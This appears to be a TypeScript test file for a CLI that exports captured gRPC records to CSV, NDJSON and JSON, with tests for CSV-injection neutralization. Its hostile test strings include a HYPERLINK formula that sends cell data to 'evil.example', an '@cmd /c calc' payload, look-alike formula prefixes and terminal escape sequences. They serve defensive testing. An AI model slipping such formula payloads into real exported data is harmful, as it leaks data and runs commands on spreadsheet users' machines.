import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { RecordExporter, type ExportOptions } from '../../src/cli/export';
import { UsageError } from '../../src/errors';
import { filterFromOptions } from '../../src/filter/index';
import { neutralizeCell } from '../../src/output/csv';
import { escapeCell, hasUnsafe } from '../../src/output/escape';
import { DEFAULT_COLUMNS } from '../../src/records/fields';
import { defaultCsvColumns } from '../../src/records/columns';
import { RecordReader } from '../../src/records/reader';
import type { CallRecord, MessageRecord } from '../../src/records/types';
import { makeCall, makeMessage } from '../records/make';
import { parseCsvStrict } from './csv-strict';

function exportRecords(records: Array<CallRecord | MessageRecord>, options: Partial<ExportOptions> = {}): string {
  let text = '';
  const ex = new RecordExporter((t) => (text += t), { format: 'csv', records: 'calls', ...options });
  for (const r of records) (r.type === 'call' ? ex.call(r) : ex.message(r));
  ex.end();
  return text;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+SUM(1,2)',
  '@cmd /c calc',
  '-2+3',
  '\tTAB=1+1',
  '\rCR=1+1',
  'red \u001b[31mALERT\u001b[0m',
  'two\nlines, and "quotes"',
  'windows\r\nline',
  'Grüße, 世界 — ✓ 🚀',
];

test('hostile strings: CSV stays valid, no cell starts a formula, text survives', () => {
  const calls = HOSTILE.map((s, i) =>
    makeCall({ stream: i * 2 + 1, grpc_message: s, method: `/svc.S/${s}`, request_headers: { 'user-agent': s }, status: 2, status_name: 'UNKNOWN' }),
  );
  const csv = exportRecords(calls, { columns: 'stream,method,status,grpc_message,request_headers.user-agent,request_headers' });
  const rows = parseCsvStrict(csv);
  assert.deepEqual(rows[0], ['stream', 'method', 'status', 'grpc_message', 'request_headers.user-agent', 'request_headers']);
  assert.equal(rows.length, HOSTILE.length + 1);
  HOSTILE.forEach((s, i) => {
    const r = rows[i + 1];
    assert.equal(r[0], String(i * 2 + 1));
    assert.equal(r[2], '2');
    for (const cell of r) assert.ok(!/^[=+\-@\t\r]/.test(cell), `cell would run as a formula: ${JSON.stringify(cell)}`);
    // Neutralized text is the original with terminal controls escaped, behind one quote when it starts a
    // formula; text with neither is unchanged.
    assert.equal(r[3], neutralizeCell(s));
    assert.equal(r[3].replace(/^'(?=\s*[=+\-@])/, ''), escapeCell(s));
    assert.ok(!hasUnsafe(r[3]), `terminal control left in ${JSON.stringify(r[3])}`);
    assert.equal(r[1], neutralizeCell(`/svc.S/${s}`));
    assert.equal(r[4], neutralizeCell(s));
    assert.deepEqual(JSON.parse(r[5]), { 'user-agent': s });
  });
});

test("Python's csv module (strict) reads the same rows back", () => {
  const calls = HOSTILE.map((s, i) => makeCall({ stream: i + 1, grpc_message: s }));
  const csv = exportRecords(calls, { bom: true });
  const script = [
    'import csv, io, json, sys',
    "data = sys.stdin.buffer.read().decode('utf-8-sig')",
    "print(json.dumps(list(csv.reader(io.StringIO(data, newline=''), strict=True))))",
  ].join('\n');
  const py = JSON.parse(execFileSync('/usr/bin/python3', ['-c', script], { input: Buffer.from(csv, 'utf8') }).toString('utf8'));
  assert.deepEqual(py, parseCsvStrict(csv.slice(1)));
  assert.deepEqual(py[0], defaultCsvColumns('call'));
});

test('numbers stay numbers: unquoted and never prefixed, negative ones included', () => {
  const csv = exportRecords([makeCall({ duration_ms: 12.5, timeout_ms: -1, status: 14, status_name: 'UNAVAILABLE' })], {
    columns: 'duration_ms,timeout_ms,status,complete,reset,end',
  });
  assert.equal(csv, 'duration_ms,timeout_ms,status,complete,reset,end\r\n12.5,-1,14,true,,2026-11-21T03:39:12.010000000Z\r\n');
});

test('--no-sanitize leaves text as captured; --bom starts with the byte order mark', () => {
  const csv = exportRecords([makeCall({ grpc_message: '=1+1' })], { columns: 'grpc_message', sanitize: false, bom: true });
  assert.equal(csv, '\uFEFFgrpc_message\r\n=1+1\r\n');
  assert.equal(exportRecords([makeCall({ grpc_message: '=1+1' })], { columns: 'grpc_message' }), "grpc_message\r\n'=1+1\r\n");
});

test('default columns follow the registry, each time with its spreadsheet columns; nested objects are JSON text in one cell', () => {
  const rows = parseCsvStrict(exportRecords([makeCall()]));
  assert.deepEqual(rows[0], defaultCsvColumns('call'));
  assert.deepEqual(rows[0].slice(8, 14), ['start', 'start_datetime', 'start_relative_s', 'end', 'end_datetime', 'end_relative_s']);
  const headers = rows[1][rows[0].indexOf('request_headers')];
  assert.deepEqual(JSON.parse(headers), makeCall().request_headers);
  assert.equal(rows[1][rows[0].indexOf('timeout_ms')], '');
});

test('messages: columns reach into bodies; other record kinds are not written', () => {
  const csv = exportRecords(
    [makeMessage({ body: { name: '@x', items: [{ n: -3 }] } }), makeCall()],
    { records: 'messages', columns: 'index,direction,body.name,body.items.0.n,body' },
  );
  assert.equal(csv, 'index,direction,body.name,body.items.0.n,body\r\n0,request,\'@x,-3,"{""name"":""@x"",""items"":[{""n"":-3}]}"\r\n');
});

test('unknown columns are a usage error listing the fields', () => {
  assert.throws(
    () => exportRecords([], { columns: 'method,latency' }),
    (e: unknown) => e instanceof UsageError && /^--columns: unknown call field "latency" \(expected one of tcp_stream, client/.test(e.message),
  );
});

test('ndjson without columns writes records exactly as decode did; the reader takes them back', () => {
  const records = [makeMessage(), makeCall({ grpc_message: 'x\ny' })];
  let text = '';
  const ex = new RecordExporter((t) => (text += t), { format: 'ndjson', records: 'calls' });
  for (const r of records) (r.type === 'call' ? ex.call(r) : ex.message(r));
  ex.end();
  assert.equal(text, JSON.stringify(records[1]) + '\n');
  const back: CallRecord[] = [];
  const reader = new RecordReader({ message: () => undefined, call: (c) => void back.push(c) });
  reader.push(text);
  reader.end();
  assert.deepEqual(back, [records[1]]);
});

test('json: one array, projected by --columns; empty input gives []', () => {
  let text = '';
  const ex = new RecordExporter((t) => (text += t), { format: 'json', records: 'calls', columns: 'method,request_headers.user-agent' });
  ex.call(makeCall());
  ex.call(makeCall({ method: '/b.B/B', request_headers: {} }));
  ex.end();
  assert.deepEqual(JSON.parse(text), [
    { method: '/helloworld.Greeter/SayHello', 'request_headers.user-agent': 'grpc-go/1.60' },
    { method: '/b.B/B', 'request_headers.user-agent': null },
  ]);
  let empty = '';
  const none = new RecordExporter((t) => (empty += t), { format: 'json', records: 'messages' });
  none.end();
  assert.equal(empty, '[]\n');
});

test('filters: calls by status; messages of failed calls only under --status !OK', () => {
  const filter = filterFromOptions({ status: '!OK' });
  const records = [
    makeMessage({ stream: 1 }),
    makeCall({ stream: 1 }),
    makeMessage({ stream: 3, body: { name: 'bad' } }),
    makeCall({ stream: 3, status: 14, status_name: 'UNAVAILABLE' }),
  ];
  assert.equal(parseCsvStrict(exportRecords(records, { filter, columns: 'stream' })).map((r) => r[0]).join(' '), 'stream 3');
  assert.equal(
    exportRecords(records, { filter, records: 'messages', columns: 'stream,body.name' }),
    'stream,body.name\r\n3,bad\r\n',
  );
});

test('CSV injection, OWASP: separators quote the cell, look-alike and blank-led formulas are neutralized, controls escaped', () => {
  const cases: Array<[string, string]> = [
    // Excel in a locale whose list separator is ';' splits an unquoted x;=1+1 and runs =1+1.
    ['x;=1+1', '"x;=1+1"'],
    ['a|=cmd', '"a|=cmd"'],
    ['a,=1', '"a,=1"'],
    ['\uff1d1+1', "'\uff1d1+1"],
    ['\uff0bSUM(1)', "'\uff0bSUM(1)"],
    ['\uff0d2', "'\uff0d2"],
    ['\uff20x', "'\uff20x"],
    ['\ufe661+1', "'\ufe661+1"],
    ['   =1+1', "'   =1+1"],
    ['\u00a0\u3000@x', "'\u00a0\u3000@x"],
    ['\u22121', "'\u22121"],
    ['a\u001b]0;owned\u0007b', '"a\\x1b]0;owned\\x07b"'],
    ['\u009b31mred \u202egnp.exe', '\\x9b31mred \\u202egnp.exe'],
  ];
  const csv = exportRecords(cases.map(([s], i) => makeCall({ stream: i + 1, grpc_message: s })), { columns: 'stream,grpc_message' });
  const lines = csv.split('\r\n').slice(1, -1);
  cases.forEach(([, want], i) => assert.equal(lines[i], `${i + 1},${want}`));
  assert.ok(!hasUnsafe(csv.replace(/\r\n/g, '')), 'no terminal control reaches the CSV');
  // --no-sanitize: exactly as captured.
  const raw = exportRecords([makeCall({ grpc_message: 'x;=1+1\u001b' })], { columns: 'grpc_message', sanitize: false });
  assert.equal(raw, 'grpc_message\r\nx;=1+1\u001b\r\n');
});
